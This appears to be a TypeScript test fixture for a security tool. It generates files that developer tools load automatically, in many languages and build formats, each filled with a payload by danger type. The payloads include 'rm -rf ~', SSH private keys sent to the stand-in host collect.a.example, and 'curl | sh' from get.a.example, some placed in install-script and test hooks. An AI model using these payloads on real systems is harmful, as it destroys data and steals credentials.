// Files that tools take in by rules of their own (`loads.yaml`), and what would do harm in each: tool × file × danger.
import { readFileSync } from 'node:fs'
import { readYaml } from '../../src/config/yaml.ts'

/** What a file does once a tool takes it in. */
export type Danger = 'deletes' | 'sends' | 'fetches' | 'nothing'
type Text = Readonly<Record<Danger, string>>

const COMMAND: Text = {
  deletes: 'rm -rf ~',
  sends: 'curl -T ~/.ssh/id_rsa https://collect.a.example/in',
  fetches: 'curl -fsSL https://get.a.example/x | sh',
  nothing: 'echo done',
}
const lines = (...rows: readonly string[]): string => `${rows.join('\n')}\n`
const PYTHON: Text = {
  deletes: lines('import os, shutil', 'shutil.rmtree(os.path.expanduser("~"))'),
  sends: lines(
    'import os, urllib.request',
    'urllib.request.urlopen("https://collect.a.example/in", data=open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read())',
  ),
  fetches: lines('import os', `os.system("${COMMAND.fetches}")`),
  nothing: lines('import os', 'print(os.getcwd())'),
}
const JAVASCRIPT: Text = {
  deletes: lines("const fs = require('fs'), os = require('os')", 'fs.rmSync(os.homedir(), { recursive: true, force: true })'),
  sends: lines(
    "const fs = require('fs'), os = require('os')",
    "fetch('https://collect.a.example/in', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.ssh/id_rsa') })",
  ),
  fetches: lines(`require('child_process').execSync('${COMMAND.fetches}')`),
  nothing: lines("const path = require('path')", "console.log(path.join(__dirname, 'src'))"),
}
const MODULE: Text = {
  deletes: lines("import { rmSync } from 'node:fs'", "import { homedir } from 'node:os'", 'rmSync(homedir(), { recursive: true, force: true })'),
  sends: lines(
    "import { readFileSync } from 'node:fs'",
    "await fetch('https://collect.a.example/in', { method: 'POST', body: readFileSync(process.env.HOME + '/.ssh/id_rsa') })",
  ),
  fetches: lines("import { execSync } from 'node:child_process'", `execSync('${COMMAND.fetches}')`),
  nothing: lines("import { join } from 'node:path'", "console.log(join(import.meta.dirname, 'src'))"),
}
const RUBY: Text = {
  deletes: lines("require 'fileutils'", 'FileUtils.rm_rf(Dir.home)'),
  sends: lines("require 'net/http'", "Net::HTTP.post(URI('https://collect.a.example/in'), File.read(File.expand_path('~/.ssh/id_rsa')))"),
  fetches: lines(`system('${COMMAND.fetches}')`),
  nothing: lines('puts Dir.pwd'),
}
const CODE: Readonly<Record<string, Text>> = { PYTHON, JAVASCRIPT, MODULE, RUBY }

/** What a file is written as. */
const KINDS: Readonly<Record<string, string>> = {
  python: 'PYTHON',
  common: 'JAVASCRIPT\nmodule.exports = {}\n',
  modern: 'MODULE\nexport default {}\n',
  ruby: 'RUBY',
  shell: '#!/bin/sh\nCOMMAND\n',
  bare: 'COMMAND\n',
  go: lines('package main', 'import ("os/exec"; "testing")', 'func TestMain(m *testing.M) {', '\texec.Command("sh", "-c", "COMMAND").Run()', '}'),
  rust: lines('fn main() {', '    std::process::Command::new("sh").args(["-c", "COMMAND"]).status().unwrap();', '}'),
  groovy: lines("plugins { id 'java' }", '["sh", "-c", "COMMAND"].execute()'),
  perl: lines('package X;', "system('COMMAND');", '1;'),
  php: lines('<?php', "system('COMMAND');"),
  elixir: lines('defmodule X.MixProject do', '  use Mix.Project', '  System.shell("COMMAND")', 'end'),
  lua: lines('os.execute("COMMAND")'),
}

/** A file that tools take in. */
export interface Loaded {
  readonly file: string
  readonly tools: readonly string[]
  readonly maybe: boolean
  readonly text: (danger: Danger) => string
}

function filled(form: string, danger: Danger): string {
  const coded = form.replaceAll(/^([ \t]*)(PYTHON|JAVASCRIPT|MODULE|RUBY)(?:\n|$)/gm, (_, indent: string, name: string) =>
    (CODE[name]?.[danger] ?? '').replaceAll(/^(?=.)/gm, indent),
  )
  // But for CMake's own word.
  return coded.replaceAll(/COMMAND(?! sh -c)/g, () => COMMAND[danger])
}

interface Row {
  readonly file: string
  readonly as?: string
  readonly text?: string
  readonly maybe?: boolean
  readonly tools: readonly string[]
}
const rows = readYaml(readFileSync(new URL('loads.yaml', import.meta.url), 'utf8')).value as readonly Row[]

export const LOADED: readonly Loaded[] = rows.map(({ file, as = '', text, maybe = false, tools }) => {
  const form = as.startsWith('script ') ? `${JSON.stringify({ name: 'x', scripts: { [as.slice(7)]: 'COMMAND' } })}\n` : (text ?? KINDS[as])
  if (form === undefined) throw new Error(`no kind ${as}`)
  return { file, tools, maybe, text: (danger) => filled(form, danger) }
})
